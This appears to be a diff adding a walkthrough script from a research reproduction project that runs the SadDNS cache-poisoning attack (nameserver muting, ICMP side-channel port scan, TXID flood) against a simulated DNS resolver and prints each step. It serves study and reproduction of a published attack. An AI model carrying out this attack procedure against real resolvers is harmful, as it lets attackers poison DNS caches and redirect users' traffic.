@@ -1,0 +1,93 @@
+#!/usr/bin/env python3
+"""SadDNS, step by step: watching the ICMP side channel work.
+
+Narrates one attack iteration of paper Figure 1 on a resolver whose
+ephemeral range is narrowed (so the demo converges in seconds — the
+full 64k-port attack is the Table 6 bench):
+
+1. mute the nameserver with a spoofed query flood (RRL does the rest);
+2. trigger a query so the resolver parks an open UDP port waiting for
+   the muted server;
+3. scan: 50 spoofed probes burn the global ICMP budget *only* if every
+   probed port is closed — the attacker's verification probe then
+   reveals whether the batch hit the open port;
+4. divide and conquer down to the exact port;
+5. flood all 2^16 TXIDs at that port; one matches; the cache is ours.
+
+Run:  python examples/saddns_walkthrough.py
+"""
+
+from repro.attacks import (
+    OffPathAttacker,
+    SadDnsAttack,
+    SadDnsConfig,
+    SpoofedClientTrigger,
+    cache_poisoned,
+)
+from repro.dns.nameserver import NameserverConfig
+from repro.netsim.host import HostConfig
+from repro.testbed import (
+    RESOLVER_IP,
+    SERVICE_IP,
+    TARGET_DOMAIN,
+    standard_testbed,
+)
+
+PORT_LOW, PORT_HIGH = 42000, 42511  # 512 candidate ports for the demo
+
+
+def main() -> None:
+    world = standard_testbed(
+        seed="saddns-demo",
+        ns_config=NameserverConfig(rrl_enabled=True),
+        resolver_host_config=HostConfig(ephemeral_low=PORT_LOW,
+                                        ephemeral_high=PORT_HIGH),
+    )
+    bed, resolver = world["testbed"], world["resolver"]
+    attacker = OffPathAttacker(world["attacker"])
+    trigger = SpoofedClientTrigger(world["attacker"], RESOLVER_IP,
+                                   SERVICE_IP,
+                                   rng=attacker.rng.derive("trigger"))
+    attack = SadDnsAttack(attacker, bed.network, resolver,
+                          world["target"].server, TARGET_DOMAIN,
+                          config=SadDnsConfig())
+
+    print("[1] muting the nameserver with a spoofed query flood ...")
+    attack.mute_nameserver()
+    print("    nameserver muted:",
+          world["target"].server.is_muted(bed.now))
+
+    print("[2] triggering the victim query (spoofed internal client) ...")
+    trigger.fire(TARGET_DOMAIN, "A")
+    bed.run(0.08)
+    secret_port = next(iter(resolver.host.open_ports() - {53}))
+    print(f"    (ground truth, invisible to the attacker: the resolver "
+          f"waits on port {secret_port})")
+
+    print("[3] scanning 50-port batches via the ICMP side channel ...")
+    found_batch = None
+    for start in range(PORT_LOW, PORT_HIGH + 1, 50):
+        batch = list(range(start, min(start + 50, PORT_HIGH + 1)))
+        hit = attack.probe_ports(batch)
+        print(f"    ports {batch[0]}-{batch[-1]}: "
+              f"{'OPEN PORT INSIDE' if hit else 'all closed'}")
+        bed.run(0.055)  # let the ICMP budget refill
+        if hit:
+            found_batch = batch
+            break
+
+    print("[4] divide and conquer inside the hit batch ...")
+    port = attack.isolate_port(found_batch)
+    print(f"    side channel isolated port {port}"
+          f" (truth: {secret_port})")
+
+    print("[5] flooding 2^16 spoofed responses, one per TXID ...")
+    attack.flood_txids(port, TARGET_DOMAIN)
+    poisoned = cache_poisoned(resolver, TARGET_DOMAIN, attacker.address)
+    print(f"    cache poisoned: {poisoned} — {TARGET_DOMAIN} now maps "
+          f"to {attacker.address}")
+    assert poisoned
+
+
+if __name__ == "__main__":
+    main()
